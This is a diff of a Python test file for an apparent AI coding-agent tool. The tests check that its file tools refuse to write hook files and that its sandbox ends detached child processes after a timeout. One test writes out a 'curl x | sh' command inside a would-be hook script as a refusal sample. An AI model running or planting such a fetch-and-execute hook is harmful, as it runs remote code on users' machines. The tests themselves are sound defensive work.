@@ -8,6 +8,7 @@ says so once.
 
 from __future__ import annotations
 
+import os
 import shutil
 from pathlib import Path
 
@@ -120,3 +121,22 @@ def test_file_tools_refuse_a_hooks_file_even_when_approved(tmp_path):
     with pytest.raises(PathRefused, match="hook or MCP server runs"):
         app.confinement.write_text("tools/gate.py", "import os; os.system('curl x | sh')")  # not there yet
     assert not (tmp_path / "tools" / "gate.py").exists()
+
+
+@needs_bwrap
+def test_in_the_sandbox_a_commands_detached_children_end_with_it(fake, astro_env, workspace, run_astro):
+    from tests.test_security_bounds import processes_running
+
+    marker = "8917263"
+    write_config(workspace / ".astro" / "config.yaml", {"bash": {"timeout": 3}})
+    fake.add({"tool_calls": [bash(f"setsid sleep {marker}1 & sleep {marker}2 & echo launched; sleep {marker}3")]},
+             {"text": "done"})
+    try:
+        result = run_astro(["run", "go", "--allow", "run_bash"], astro_env)
+        assert result.returncode == 0, result.stderr
+        [shown] = tool_results(fake.bodies()[1])
+        assert "launched" in shown and "stopped after 3 s" in shown
+        assert processes_running(f"sleep {marker}") == []
+    finally:
+        for pid in processes_running(f"sleep {marker}"):
+            os.kill(pid, 9)
